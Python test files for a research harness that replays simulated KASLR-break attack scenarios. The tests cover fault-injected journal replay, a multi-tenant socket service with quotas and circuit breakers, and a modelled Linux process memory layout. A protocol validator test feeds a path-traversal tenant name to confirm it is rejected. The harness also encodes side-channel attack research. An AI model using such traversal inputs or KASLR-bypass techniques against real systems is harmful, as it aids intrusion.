            # the journal is broken now; appends refuse deterministically
            journal.faults = None
            with pytest.raises(JournalWriteError):
                journal.append(wal.UNIT_SKIP, unit="u", reason="x")
        records, __ = replay(path)
        assert [r["type"] for r in records] == [wal.UNIT_START]

    def test_enospc_append_is_typed(self, tmp_path):
        journal = CampaignJournal(
            tmp_path / "j.jsonl",
            faults=FaultInjector(FAULT_PROFILES["disk-full"], seed=1),
        )
        with journal:
            journal.open()
            with pytest.raises(JournalWriteError) as excinfo:
                for i in range(256):
                    journal.append(wal.UNIT_START, unit="u{}".format(i),
                                   attempt=0)
        assert excinfo.value.errno == errno.ENOSPC

    def test_lying_fsync_power_loss_loses_tail_not_integrity(
            self, tmp_path):
        """Post power-cut replay sees a prefix; nothing is corrupt."""
        injector = FaultInjector(FAULT_PROFILES["liar-disk"])
        path = tmp_path / "j.jsonl"
        journal = CampaignJournal(path, faults=injector)
        with journal:
            journal.open()
            for i in range(8):
                journal.append(wal.UNIT_FINISH, unit="u{}".format(i),
                               attempt=0, result={"passed": True})
        lost = injector.simulate_power_loss()
        assert lost and str(path) in lost
        records, __ = replay(path)  # replays clean -- just shorter
        assert len(records) < 8
        __, units = fold_records(records)
        for entry in units.values():  # what survived is intact
            assert entry["status"] == "done"


# -- heartbeat clock skew ------------------------------------------------------


class TestHeartbeatSkew:
    def test_skewed_clock_kills_healthy_worker_but_retry_recovers(self):
        profile = FaultProfile("skew", "x", {"hb_skew": 1.0},
                               skew_s=3600.0)
        pool = SupervisedPool(jobs=1, watchdog_s=30.0, max_retries=1,
                              backoff_base_s=0.01,
                              faults=FaultInjector(profile))
        outcomes = pool.run([("unit", 30)], _nap)
        # with the skew firing on every read, both launches are shot
        # stale; the budget exhausts into a typed, deterministic failure
        assert outcomes["unit"].status == FAILED
        assert outcomes["unit"].detail == "heartbeat went stale"

    def test_no_skew_control_passes(self):
        pool = SupervisedPool(jobs=1, watchdog_s=30.0, max_retries=0)
        outcomes = pool.run([("unit", 21)], _tick)
        assert outcomes["unit"].status == OK
        assert outcomes["unit"].value == 42


# -- the full fault matrix: typed error, quarantine, or clean degrade ----------


class TestFaultMatrix:
    @pytest.mark.parametrize("kind", FAULT_KINDS)
    def test_every_kind_ends_contained(self, tmp_path, kind):
        """Each fault kind, fired at rate 1, resolves into a typed
        error, a lost-durability window, a delay, or a watchdog kill --
        and never into bad bytes that replay would trust."""
        profile = FaultProfile("only-" + kind, "x", {kind: 1.0},
                               stall_s=0.0005, skew_s=3600.0,
                               enospc_sticky=False)
        injector = FaultInjector(profile)
        path = tmp_path / "j.jsonl"
        journal = CampaignJournal(path, faults=injector)
        journal.open()
        try:
            if kind in ("enospc", "eio", "torn"):
                with pytest.raises(JournalWriteError):
                    journal.append(wal.UNIT_START, unit="u", attempt=0)
            elif kind == "fsync_lie":
                journal.append(wal.UNIT_START, unit="u", attempt=0)
                injector.simulate_power_loss()
            elif kind == "stall":
                journal.append(wal.UNIT_START, unit="u", attempt=0)
            elif kind == "hb_skew":
                assert injector.heartbeat_skew() == 3600.0
        finally:
            journal.close()
        assert kind in injector.fired_kinds() or kind == "hb_skew"
        # whatever happened, the journal on disk replays clean
        records, __ = replay(path)
        assert all(r.get("crc") for r in records)
