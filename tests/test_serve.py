"""The multi-tenant serve layer: protocol, quotas, breakers, service.

The integration tests drive a real server over a real Unix socket --
admission rejections, streamed events, graceful drain, and the load-
bearing property: a plan served (even across a drain-restart-resubmit
cycle) produces the same result store, modulo the two wall-clock
fields, as an offline ``repro campaign run``.
"""

import json
import os
import pathlib
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from repro.campaign.coordinator import ShardedCampaignRunner
from repro.cli import EXIT_INTERRUPTED, main
from repro.errors import (
    CampaignError,
    Overloaded,
    ProtocolError,
    QuotaExceeded,
)
from repro.ioutil import prune_stale_artifacts
from repro.serve import protocol
from repro.serve.breaker import (
    CLOSED,
    HALF_OPEN,
    OPEN,
    BreakerBoard,
    CircuitBreaker,
)
from repro.serve.client import ServeClient
from repro.serve.quota import QuotaLedger, TenantQuota, load_tenant_quotas
from repro.serve.server import ServeServer
from repro.serve.backend import ServeBackend

SRC_DIR = str(pathlib.Path(__file__).resolve().parent.parent / "src")


def _write_scenarios(directory, count, trials=2):
    directory.mkdir(parents=True, exist_ok=True)
    for index in range(count):
        spec = {
            "name": "unit{}".format(index),
            "machine": {"os": "linux", "cpu": "i5-12400F", "seed": index},
            "attack": {"kind": "kaslr", "params": {"trials": trials}},
            "expect": {"correct": True},
        }
        (directory / "unit{}.json".format(index)).write_text(
            json.dumps(spec)
        )
    return directory


def _scenario_spec(seed=3):
    return {
        "name": "inline",
        "machine": {"os": "linux", "cpu": "i5-12400F", "seed": seed},
        "attack": {"kind": "kaslr", "params": {"trials": 2}},
        "expect": {"correct": True},
    }


def _strip_wall(store):
    store = dict(store)
    store.pop("generated_at", None)
    store.pop("wall_elapsed_s", None)
    return store


# -- protocol ------------------------------------------------------------------


class TestProtocol:
    def test_encode_parse_roundtrip(self):
        message = {"type": "submit", "id": "r1", "scenario": {"a": 1}}
        assert protocol.parse_line(
            protocol.encode(message).rstrip(b"\n")
        ) == message

    def test_junk_line_is_typed(self):
        with pytest.raises(ProtocolError):
            protocol.parse_line(b"\x00\xff not json")
        with pytest.raises(ProtocolError):
            protocol.parse_line(b"[1, 2, 3]")
        with pytest.raises(ProtocolError):
            protocol.parse_line(b'{"no": "type"}')

    def test_validate_rejects_bad_shapes(self):
        with pytest.raises(ProtocolError):
            protocol.validate_client({"type": "frobnicate"})
        with pytest.raises(ProtocolError):
            protocol.validate_client({"type": "hello", "tenant": "../../x"})
        with pytest.raises(ProtocolError):
            protocol.validate_client(
                {"type": "hello", "tenant": "a", "proto": "repro-serve/v0"}
            )
        with pytest.raises(ProtocolError):
            protocol.validate_client({"type": "submit", "id": "ok"})
        with pytest.raises(ProtocolError):
            protocol.validate_client({
                "type": "submit", "id": "ok",
                "scenario": {}, "plan": {"directory": "d"},
            })
        with pytest.raises(ProtocolError):
            protocol.validate_client({
                "type": "submit", "id": "ok", "scenario": {},
                "deadline_s": -1,
            })

    def test_rejected_carries_typed_fields(self):
        error = QuotaExceeded("over", tenant="a", quota="units-in-flight",
                              retry_after_s=1.0)
        message = protocol.rejected("r1", error)
        assert message["error"] == "QuotaExceeded"
        assert message["tenant"] == "a"
        assert message["quota"] == "units-in-flight"
        assert message["retry_after_s"] == 1.0

    def test_line_cap_enforced(self):
        with pytest.raises(ProtocolError):
            protocol.encode({"type": "submit", "id": "r",
                             "scenario": {"blob": "x" * protocol.MAX_LINE_BYTES}})


# -- quotas --------------------------------------------------------------------


class TestQuota:
    def test_admit_and_release_roundtrip(self):
        ledger = QuotaLedger(TenantQuota(max_requests=2, max_units=8))
        ledger.admit("a", 4)
        ledger.admit("a", 4)
        with pytest.raises(QuotaExceeded) as excinfo:
            ledger.admit("a", 1)
        assert excinfo.value.quota == "requests-in-flight"
        ledger.release("a", 4)
        ledger.admit("a", 2)

    def test_unit_quota_is_typed_and_charges_nothing(self):
        ledger = QuotaLedger(TenantQuota(max_requests=10, max_units=4))
        ledger.admit("a", 3)
        with pytest.raises(QuotaExceeded) as excinfo:
            ledger.admit("a", 2)
        assert excinfo.value.quota == "units-in-flight"
        # the failed admit charged nothing: one more unit still fits
        ledger.admit("a", 1)

    def test_deadline_cap_and_default(self):
        ledger = QuotaLedger(TenantQuota(max_deadline_s=10.0))
        with pytest.raises(QuotaExceeded) as excinfo:
            ledger.admit("a", 1, deadline_s=30.0)
        assert excinfo.value.quota == "deadline"
        # no deadline requested: the cap becomes the default budget
        assert ledger.admit("b", 1) == 10.0
        assert ledger.admit("c", 1, deadline_s=5.0) == 5.0

    def test_tenants_are_isolated(self):
        ledger = QuotaLedger(TenantQuota(max_units=2))
        ledger.admit("a", 2)
        ledger.admit("b", 2)  # b's budget is b's own
        snapshot = ledger.snapshot()
        assert snapshot["a"]["units"] == 2
        assert snapshot["b"]["admitted"] == 1

    def test_load_tenant_quotas(self):
        default, tenants = load_tenant_quotas({
            "default": {"max_units": 16},
            "noisy": {"max_requests": 1, "max_units": 2},
        })
        assert default.max_units == 16
        assert tenants["noisy"].max_requests == 1


# -- circuit breakers ----------------------------------------------------------


class TestCircuitBreaker:
    def test_trips_after_threshold_and_sheds(self):
        clock = [0.0]
        breaker = CircuitBreaker(failure_threshold=3, cooldown_s=10.0,
                                 clock=lambda: clock[0])
        for __ in range(2):
            breaker.record_failure()
        assert breaker.state == CLOSED and breaker.allow()
        breaker.record_failure()
        assert breaker.state == OPEN and not breaker.allow()
        assert breaker.retry_after_s() == pytest.approx(10.0)

    def test_half_open_admits_one_probe(self):
        clock = [0.0]
        breaker = CircuitBreaker(failure_threshold=1, cooldown_s=5.0,
                                 clock=lambda: clock[0])
        breaker.record_failure()
        clock[0] = 6.0
        assert breaker.state == HALF_OPEN
        assert breaker.allow()
        assert not breaker.allow()  # only one probe
        breaker.record_success()
        assert breaker.state == CLOSED and breaker.allow()

    def test_half_open_failure_reopens(self):
        clock = [0.0]
        breaker = CircuitBreaker(failure_threshold=1, cooldown_s=5.0,
                                 clock=lambda: clock[0])
        breaker.record_failure()
        clock[0] = 6.0
        assert breaker.allow()
        breaker.record_failure()
        assert breaker.state == OPEN

    def test_board_folds_reports(self):
        board = BreakerBoard(2, failure_threshold=1)

        class Report:
            shard_states = {0: "done", 1: "dead"}
            shard_failures = {1: "CampaignError: disk died"}

        board.record_report(Report())
        assert board.degraded_shards() == [1]
        assert board.backend.state == CLOSED

        class Wipeout:
            shard_states = {0: "dead", 1: "dead"}
            shard_failures = {0: "x", 1: "y"}

        board.record_report(Wipeout())
        assert board.backend.state == OPEN


# -- artifact rotation ---------------------------------------------------------


class TestArtifactRotation:
    def test_prune_keeps_newest_and_drops_stale(self, tmp_path):
        old = time.time() - 7200.0
        for index in range(6):
            path = tmp_path / "c.beats-{}".format(index)
            path.mkdir()
            os.utime(path, (old + index, old + index))
        fresh = tmp_path / "c.beats-fresh"
        fresh.mkdir()
        keep = tmp_path / "keep.json"
        keep.write_text("{}")
        removed = prune_stale_artifacts(
            tmp_path, patterns=("c.beats-*",), max_age_s=3600.0, keep=3
        )
        survivors = sorted(p.name for p in tmp_path.glob("c.beats-*"))
        assert len(survivors) == 3
        assert "c.beats-fresh" in survivors
        assert len(removed) == 4
        assert keep.exists()  # non-matching files are untouched

    def test_campaign_run_rotates_previous_debris(self, tmp_path):
        scenarios = _write_scenarios(tmp_path / "scenarios", 1)
        journal = tmp_path / "c.jsonl"
        stale_beats = tmp_path / "c.beats-stale"
        stale_beats.mkdir()
        stale_tmp = tmp_path / "c.results.json.tmp"
        stale_tmp.write_text("torn")
        old = time.time() - 7200.0
        os.utime(stale_beats, (old, old))
        os.utime(stale_tmp, (old, old))
        # push the stale entries out of the keep-newest window
        for index in range(4):
            pad = tmp_path / "c.beats-pad{}".format(index)
            pad.mkdir()
        code = main(["campaign", "run", str(scenarios),
                     "--journal", str(journal), "--jobs", "1"])
        assert code == 0
        assert not stale_beats.exists()
        assert not stale_tmp.exists()
        # the run's own beat dir cleaned up after itself too
        assert list(tmp_path.glob("c.beats-*")) != []  # pads are newer
        assert journal.exists()


# -- the service ---------------------------------------------------------------


def _start_server(tmp_path, quota=None, ledger=None, shards=2, jobs=2,
                  max_queue=64, name="serve.sock", **kwargs):
    backend = ServeBackend(tmp_path / "state", shards=shards, jobs=jobs,
                           watchdog_s=60.0)
    if ledger is None:
        ledger = QuotaLedger(quota or TenantQuota())
    server = ServeServer(backend, ledger,
                         socket_path=str(tmp_path / name),
                         max_queue=max_queue, **kwargs)
    server.start()
    return server


class TestServeService:
    def test_hello_health_and_scenario_verdict(self, tmp_path):
        server = _start_server(
            tmp_path, quota=TenantQuota(max_requests=2, max_units=8),
            ready_file=str(tmp_path / "ready"),
        )
        try:
            assert (tmp_path / "ready").exists()
            events = []
            with ServeClient(server.address).connect("alice") as client:
                assert client.welcome["quota"]["max_units"] == 8
                health = client.health()
                assert health["status"] == "ok" and health["ready"]
                verdict = client.submit(
                    "r1", scenario=_scenario_spec(),
                    on_event=lambda m: events.append(m["kind"]),
                )
            assert verdict["status"] == "done"
            assert verdict["result"]["passed"] is True
            assert "unit-start" in events and "unit-finish" in events
            # the result was persisted before the verdict was streamed
            persisted = json.loads(
                (tmp_path / "state" / "results" / "alice.r1.json")
                .read_text()
            )
            assert persisted == verdict["result"]
        finally:
            server.drain(timeout=60.0)
        assert not (tmp_path / "ready").exists()

    def test_protocol_error_keeps_session_usable(self, tmp_path):
        server = _start_server(tmp_path)
        try:
            client = ServeClient(server.address).connect("alice")
            client.sock.sendall(b"this is not json\n")
            reply = client.recv()
            assert reply["type"] == "error"
            # same connection still works
            verdict = client.submit("r1", scenario=_scenario_spec())
            assert verdict["status"] == "done"
            client.close()
        finally:
            server.drain(timeout=60.0)

    def test_quota_rejection_is_typed(self, tmp_path):
        scenarios = _write_scenarios(tmp_path / "plan", 4)
        server = _start_server(
            tmp_path, quota=TenantQuota(max_requests=4, max_units=2)
        )
        try:
            with ServeClient(server.address).connect("greedy") as client:
                reply = client.submit(
                    "p1", plan={"directory": str(scenarios)}
                )
            assert reply["type"] == "rejected"
            assert reply["error"] == "QuotaExceeded"
            assert reply["quota"] == "units-in-flight"
            assert reply["tenant"] == "greedy"
        finally:
            server.drain(timeout=60.0)

    def test_queue_full_is_overloaded(self, tmp_path):
        scenarios = _write_scenarios(tmp_path / "plan", 4)
        server = _start_server(
            tmp_path, quota=TenantQuota(max_units=64), max_queue=2
        )
        try:
            with ServeClient(server.address).connect("alice") as client:
                reply = client.submit(
                    "p1", plan={"directory": str(scenarios)}
                )
            assert reply["type"] == "rejected"
            assert reply["error"] == "Overloaded"
            assert reply["reason"] == "queue-full"
        finally:
            server.drain(timeout=60.0)

    def test_bad_plan_directory_rejects_and_releases_quota(self, tmp_path):
        server = _start_server(tmp_path, quota=TenantQuota(max_units=4))
        try:
            with ServeClient(server.address).connect("alice") as client:
                reply = client.submit(
                    "p1", plan={"directory": str(tmp_path / "empty")}
                )
                assert reply["type"] == "rejected"
                assert reply["error"] == "CampaignError"
                # nothing leaked: a full-size scenario still admits
                verdict = client.submit("r2", scenario=_scenario_spec())
                assert verdict["status"] == "done"
            assert server.ledger.snapshot()["alice"]["requests"] == 0
        finally:
            server.drain(timeout=60.0)

    def test_circuit_open_sheds_with_retry_after(self, tmp_path):
        server = _start_server(tmp_path)
        try:
            for __ in range(3):
                server.breakers.backend.record_failure()
            with pytest.raises(Overloaded) as excinfo:
                server.admit("alice", 1)
            assert excinfo.value.reason == "circuit-open"
            assert excinfo.value.retry_after_s > 0
        finally:
            server.drain(timeout=60.0)

    def test_draining_server_admits_nothing(self, tmp_path):
        server = _start_server(tmp_path)
        server.drain(timeout=60.0)
        with pytest.raises(Overloaded) as excinfo:
            server.admit("alice", 1)
        assert excinfo.value.reason == "draining"
        health = server.health()
        assert health["status"] == "draining" and not health["ready"]

    def test_dead_client_drops_stream_not_computation(self, tmp_path):
        server = _start_server(tmp_path)
        try:
            raw = socket.socket(socket.AF_UNIX)
            raw.connect(server.address)
            raw.sendall(protocol.encode(
                {"type": "hello", "tenant": "ghost"}
            ))
            raw.sendall(protocol.encode({
                "type": "submit", "id": "r1",
                "scenario": _scenario_spec(),
            }))
            raw.close()  # the client dies right after submitting
            result_path = tmp_path / "state" / "results" / "ghost.r1.json"
            deadline = time.monotonic() + 60.0
            while not result_path.exists() \
                    and time.monotonic() < deadline:
                time.sleep(0.05)
            assert result_path.exists()
            # and the quota was released despite the dead stream
            deadline = time.monotonic() + 10.0
            while time.monotonic() < deadline:
                usage = server.ledger.snapshot().get("ghost", {})
                if usage.get("requests") == 0:
                    break
                time.sleep(0.05)
            assert server.ledger.snapshot()["ghost"]["requests"] == 0
        finally:
            server.drain(timeout=60.0)

    def test_plan_store_matches_offline_run(self, tmp_path):
        scenarios = _write_scenarios(tmp_path / "plan", 3)
        server = _start_server(tmp_path, shards=2, jobs=2)
        try:
            with ServeClient(server.address).connect("alice") as client:
                verdict = client.submit(
                    "p1",
                    plan={"directory": str(scenarios), "shards": 2,
                          "seed": 5},
                )
            assert verdict["status"] == "done" and verdict["ok"]
            served = _strip_wall(json.loads(
                pathlib.Path(verdict["store"]).read_text()
            ))
        finally:
            server.drain(timeout=60.0)
        offline = ShardedCampaignRunner(
            tmp_path / "offline.jsonl", directory=str(scenarios),
            shards=2, jobs=2, seed=5, watchdog_s=60.0,
        ).run()
        assert served == _strip_wall(offline.store)

    def test_drain_restart_resubmit_reaches_offline_store(self, tmp_path):
        scenarios = _write_scenarios(tmp_path / "plan", 5)
        server = _start_server(tmp_path, shards=2, jobs=2)
        try:
            with ServeClient(server.address).connect("alice") as client:
                accepted = client.submit(
                    "p1",
                    plan={"directory": str(scenarios), "shards": 2,
                          "seed": 7},
                    wait=False,
                )
                assert accepted["type"] == "accepted"
        finally:
            # drain immediately: the plan is interrupted mid-flight,
            # its journal sealed with the finished units recorded
            server.drain(timeout=120.0)
        journal = tmp_path / "state" / "plans" / "alice.p1.jsonl"
        assert journal.exists()

        # a fresh incarnation over the same state dir; resubmitting the
        # same (tenant, id) resumes the sealed journal
        server = _start_server(tmp_path, shards=2, jobs=2, name="s2.sock")
        try:
            with ServeClient(server.address).connect("alice") as client:
                verdict = client.submit(
                    "p1",
                    plan={"directory": str(scenarios), "shards": 2,
                          "seed": 7},
                )
            assert verdict["status"] == "done" and verdict["ok"]
            served = _strip_wall(json.loads(
                pathlib.Path(verdict["store"]).read_text()
            ))
        finally:
            server.drain(timeout=120.0)
        offline = ShardedCampaignRunner(
            tmp_path / "offline.jsonl", directory=str(scenarios),
            shards=2, jobs=2, seed=7, watchdog_s=60.0,
        ).run()
        assert served == _strip_wall(offline.store)

    def test_deadline_expired_queue_skips_with_typed_verdict(self, tmp_path):
        server = _start_server(tmp_path)
        try:
            with ServeClient(server.address).connect("alice") as client:
                verdict = client.submit(
                    "r1", scenario=_scenario_spec(),
                    deadline_s=0.000001,
                )
            assert verdict["status"] in ("skipped", "done")
            if verdict["status"] == "skipped":
                assert verdict["reason"] == "deadline"
            else:  # raced past the queue before expiry: degraded instead
                assert verdict["result"]["degraded"] == "deadline"
        finally:
            server.drain(timeout=60.0)


# -- serve CLI -----------------------------------------------------------------


class TestServeCLI:
    def test_serve_submit_drain_verbs(self, tmp_path, capsys):
        sock = str(tmp_path / "cli.sock")
        spec_path = tmp_path / "spec.json"
        spec_path.write_text(json.dumps(_scenario_spec()))
        codes = {}

        def run_server():
            codes["serve"] = main([
                "serve", "--socket", sock,
                "--state", str(tmp_path / "state"),
                "--shards", "2", "--jobs", "2",
                "--ready-file", str(tmp_path / "ready"),
            ])

        thread = threading.Thread(target=run_server, daemon=True)
        thread.start()
        deadline = time.monotonic() + 30.0
        while not (tmp_path / "ready").exists() \
                and time.monotonic() < deadline:
            time.sleep(0.05)
        assert (tmp_path / "ready").exists()

        code = main(["submit", "--socket", sock, "--tenant", "alice",
                     "--id", "r1", "--scenario", str(spec_path),
                     "--json"])
        out = capsys.readouterr().out
        assert code == 0
        reply = json.loads(out.strip().splitlines()[-1])
        assert reply["status"] == "done"

        code = main(["drain", "--socket", sock])
        assert code == 0
        thread.join(timeout=60.0)
        assert not thread.is_alive()
        assert codes["serve"] == 0

    def test_serve_needs_an_address(self, capsys):
        code = main(["serve", "--state", "unused"])
        assert code == 2
        error = json.loads(capsys.readouterr().err)
        assert error["error"] == "ServeError"

    def test_submit_needs_exactly_one_payload(self, tmp_path, capsys):
        code = main(["submit", "--socket", str(tmp_path / "no.sock"),
                     "--id", "r1"])
        assert code == 2
        error = json.loads(capsys.readouterr().err)
        assert error["error"] == "ServeError"


# -- graceful signals for campaign run -----------------------------------------


class TestCampaignSignals:
    def _env(self):
        env = dict(os.environ)
        env["PYTHONPATH"] = SRC_DIR
        return env

    def _strip(self, store_path):
        store = json.loads(pathlib.Path(store_path).read_text())
        store.pop("generated_at")
        store.pop("wall_elapsed_s")
        return store

    def test_sigterm_drains_seals_and_resumes_identically(self, tmp_path):
        scenarios = _write_scenarios(tmp_path / "scenarios", 8, trials=4)
        clean = tmp_path / "clean.jsonl"
        base_cmd = [sys.executable, "-m", "repro", "campaign"]
        subprocess.run(
            base_cmd + ["run", str(scenarios), "--journal", str(clean),
                        "--jobs", "1"],
            env=self._env(), check=True, capture_output=True, timeout=300,
        )

        drained = tmp_path / "drained.jsonl"
        process = subprocess.Popen(
            base_cmd + ["run", str(scenarios), "--journal", str(drained),
                        "--jobs", "1"],
            env=self._env(), stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        deadline = time.monotonic() + 120.0
        while time.monotonic() < deadline:
            if process.poll() is not None:
                break
            if drained.exists() and b"unit-start" in drained.read_bytes():
                process.send_signal(signal.SIGTERM)
                break
            time.sleep(0.02)
        out, err = process.communicate(timeout=120)
        if process.returncode == EXIT_INTERRUPTED:
            assert b"interrupted: journal sealed" in out
            subprocess.run(
                base_cmd + ["resume", str(drained), "--jobs", "1"],
                env=self._env(), check=True, capture_output=True,
                timeout=300,
            )
        else:
            # raced to completion before the signal landed; still a
            # valid outcome -- the stores must agree either way
            assert process.returncode == 0, err
        assert self._strip(tmp_path / "clean.results.json") \
            == self._strip(tmp_path / "drained.results.json")

    def test_predrained_runner_reports_interrupted(self, tmp_path, capsys):
        from repro.campaign import CampaignRunner

        scenarios = _write_scenarios(tmp_path / "scenarios", 2)
        runner = CampaignRunner(tmp_path / "c.jsonl",
                                directory=str(scenarios), jobs=1)
        runner.request_drain()
        report = runner.run()
        assert report.interrupted
        # nothing ran, nothing was skipped: the units stay pending
        assert report.summary["skipped"] == 0
        assert all(unit["status"] == "INCOMPLETE"
                   for unit in report.store["units"])
        # and a resume picks them all up
        resumed = CampaignRunner(tmp_path / "c.jsonl", jobs=1) \
            .run(resume=True)
        assert not resumed.interrupted
        assert resumed.summary["passed"] == 2

    def test_interrupted_report_exit_code(self, tmp_path, capsys):
        from repro.cli import _print_campaign_report
        from repro.campaign.runner import CampaignReport

        store = {"units": [], "summary": {"passed": 0, "failed": 1,
                                          "skipped": 0, "degraded": 0}}
        report = CampaignReport(store, tmp_path / "r.json",
                                interrupted=True)
        code = _print_campaign_report(report)
        assert code == EXIT_INTERRUPTED
        assert "interrupted" in capsys.readouterr().out


# -- the serve loop on a faulted fabric ----------------------------------------


def _dead_shard_profile(tmp_path):
    """A fault profile that kills shard 0's disk on its first append."""
    profile = tmp_path / "dead-shard-0.json"
    profile.write_text(json.dumps({
        "name": "dead-shard-0",
        "description": "shard 0's disk is full from the first byte",
        "rates": {"enospc": 1.0},
        "enospc_sticky": True,
        "shards": [0],
    }))
    return profile


class TestServeUnderFaults:
    """Quarantines degrade service; they never cascade or hang it."""

    def test_faulted_plan_quarantines_dead_shard_and_completes(
            self, tmp_path):
        profile = _dead_shard_profile(tmp_path)
        directory = _write_scenarios(tmp_path / "scen", 6, trials=1)
        server = _start_server(tmp_path)
        try:
            with ServeClient(server.address, timeout_s=120) \
                    .connect("alice") as client:
                verdict = client.submit("p1", plan={
                    "directory": str(directory), "shards": 2, "seed": 3,
                    "fault_profile": str(profile),
                })
            assert verdict["status"] == "done" and verdict["ok"], verdict
            # shard 0 died with a typed failure; the survivor stole its
            # backlog, so the campaign still passed every unit
            assert "0" in verdict["shard_failures"], verdict
            assert verdict["steals"] >= 1, verdict
            assert verdict["summary"]["failed"] == 0, verdict
        finally:
            server.drain(timeout=60.0)

    def test_typed_outcomes_under_2x_quota_pressure_with_dead_shard(
            self, tmp_path):
        """The ISSUE acceptance shape: 2x quota pressure + a quarantined
        shard, and every request still ends in a typed outcome."""
        profile = _dead_shard_profile(tmp_path)
        directory = _write_scenarios(tmp_path / "scen", 8, trials=1)
        server = _start_server(
            tmp_path, quota=TenantQuota(max_requests=2, max_units=64),
        )
        plan_verdict = {}
        outcomes = []
        lock = threading.Lock()

        def run_plan():
            with ServeClient(server.address, timeout_s=120) \
                    .connect("alice") as client:
                plan_verdict.update(client.submit("p1", plan={
                    "directory": str(directory), "shards": 2, "seed": 3,
                    "fault_profile": str(profile),
                }))

        def pressure(index):
            with ServeClient(server.address, timeout_s=120) \
                    .connect("carol") as client:
                reply = client.submit(
                    "q{}".format(index),
                    scenario=_scenario_spec(seed=index),
                )
                with lock:
                    outcomes.append(reply)

        try:
            planner = threading.Thread(target=run_plan)
            planner.start()
            # 4 concurrent requests against carol's quota of 2
            hammers = [threading.Thread(target=pressure, args=(i,))
                       for i in range(4)]
            for thread in hammers:
                thread.start()
            for thread in hammers:
                thread.join(timeout=120)
            planner.join(timeout=120)
            assert len(outcomes) == 4, outcomes
            for reply in outcomes:
                assert reply["type"] in ("verdict", "rejected"), reply
                if reply["type"] == "rejected":
                    assert reply["error"] in ("QuotaExceeded", "Overloaded")
                    assert reply.get("quota") or reply.get("reason"), reply
                else:
                    assert reply["status"] in ("done", "skipped"), reply
            assert plan_verdict["status"] == "done", plan_verdict
            assert plan_verdict["ok"], plan_verdict
            assert "0" in plan_verdict["shard_failures"], plan_verdict
        finally:
            server.drain(timeout=60.0)
