"""Processes (mmap/munmap/mprotect, maps) and library layouts."""

import pytest

from repro.errors import MappingError
from repro.mmu.address import PAGE_SIZE
from repro.os.linux import layout
from repro.os.linux.kernel import LinuxKernel
from repro.os.linux.libraries import (
    LIBRARY_CATALOG,
    LibraryImage,
    Section,
    default_library_set,
)
from repro.os.linux.process import Process


@pytest.fixture
def process():
    return Process(LinuxKernel(seed=5))


class TestSections:
    def test_bad_perms_rejected(self):
        with pytest.raises(ValueError):
            Section("x", 1, "rwx+")

    def test_size(self):
        assert Section(".text", 3, "r-x").size == 3 * PAGE_SIZE

    def test_library_total_pages(self):
        libc = LIBRARY_CATALOG["libc.so.6"]
        assert libc.total_pages == 437 + 511 + 4 + 2

    def test_signature(self):
        libc = LIBRARY_CATALOG["libc.so.6"]
        assert libc.signature() == (
            ("r-x", 437), ("---", 511), ("r--", 4), ("rw-", 2)
        )

    def test_load_signature_splits_on_gaps(self):
        libc = LIBRARY_CATALOG["libc.so.6"]
        assert libc.load_signature() == (437, 6)

    def test_load_signature_without_gap(self):
        ld = LIBRARY_CATALOG["ld-linux-x86-64.so.2"]
        assert ld.load_signature() == (41,)

    def test_catalog_signatures_distinct(self):
        signatures = [
            image.signature() for image in LIBRARY_CATALOG.values()
        ]
        assert len(signatures) == len(set(signatures))

    def test_section_order_matches_paper(self):
        """Figure 7: sections appear as r-x, ---, r--, rw-."""
        libc = LIBRARY_CATALOG["libc.so.6"]
        assert [s.perms for s in libc.sections] == ["r-x", "---", "r--", "rw-"]


class TestProcessLoading:
    def test_text_base_in_55_region(self, process):
        assert process.text_base >> 40 == 0x55

    def test_libraries_in_7f_region(self, process):
        for base in process.library_bases.values():
            assert base >> 40 == 0x7F

    def test_default_libraries_loaded(self, process):
        for image in default_library_set():
            assert image.name in process.library_bases

    def test_executable_segments_mapped(self, process):
        assert process.space.translate(process.text_base) is not None
        region = process.region_at(process.text_base)
        assert region.perms == "r-x"

    def test_library_sections_have_correct_perms(self, process):
        base = process.library_bases["libc.so.6"]
        libc = LIBRARY_CATALOG["libc.so.6"]
        cursor = base
        for section in libc.sections:
            if section.perms == "---":
                assert process.space.translate(cursor) is None
            else:
                flags = process.space.translate(cursor).flags
                assert flags.describe() == section.perms
            cursor += section.pages * PAGE_SIZE

    def test_rw_image_sections_are_dirty(self, process):
        """Loader writes relocations: data pages must have D=1 so the
        store probe classifies them fast (Figure 7)."""
        base = process.library_bases["libc.so.6"]
        libc = LIBRARY_CATALOG["libc.so.6"]
        rw_offset = sum(
            s.pages for s in libc.sections if s.perms != "rw-"
        ) * PAGE_SIZE
        assert process.space.translate(base + rw_offset).flags.dirty

    def test_aslr_entropy_between_seeds(self):
        bases = {
            Process(LinuxKernel(seed=s)).text_base for s in range(12)
        }
        assert len(bases) == 12


class TestSyscalls:
    def test_mmap_returns_fresh_address(self, process):
        a = process.mmap(2, "rw-")
        b = process.mmap(2, "rw-")
        assert a != b
        assert process.space.translate(a) is not None

    def test_mmap_prot_none_maps_nothing(self, process):
        addr = process.mmap(2, "---")
        assert process.space.translate(addr) is None
        assert process.region_at(addr).perms == "---"

    def test_guard_page_between_mmaps(self, process):
        a = process.mmap(1, "rw-")
        b = process.mmap(1, "rw-")
        assert b - (a + PAGE_SIZE) >= PAGE_SIZE
        assert process.space.translate(a + PAGE_SIZE) is None

    def test_munmap(self, process):
        addr = process.mmap(2, "rw-")
        process.munmap(addr, 2)
        assert process.space.translate(addr) is None
        assert process.region_at(addr) is None

    def test_partial_munmap_rejected(self, process):
        addr = process.mmap(4, "rw-")
        with pytest.raises(MappingError):
            process.munmap(addr, 2)

    def test_mprotect_change_perms(self, process):
        addr = process.mmap(1, "rw-")
        process.mprotect(addr, 1, "r--")
        assert process.space.translate(addr).flags.describe() == "r--"
        assert process.region_at(addr).perms == "r--"

    def test_mprotect_to_none_unmaps(self, process):
        addr = process.mmap(1, "rw-")
        process.mprotect(addr, 1, "---")
        assert process.space.translate(addr) is None

    def test_mprotect_from_none_maps(self, process):
        addr = process.mmap(1, "---")
        process.mprotect(addr, 1, "r--")
        assert process.space.translate(addr) is not None

    def test_mprotect_partial_rejected(self, process):
        addr = process.mmap(4, "rw-")
        with pytest.raises(MappingError):
            process.mprotect(addr, 2, "r--")


class TestMaps:
    def test_maps_sorted_and_visible_only(self, process):
        maps = process.maps()
        starts = [r.start for r in maps]
        assert starts == sorted(starts)
        assert all(not r.hidden for r in maps)

    def test_hidden_pages_exist_but_unlisted(self, process):
        hidden = [r for r in process.all_regions() if r.hidden]
        assert len(hidden) == 2
        for region in hidden:
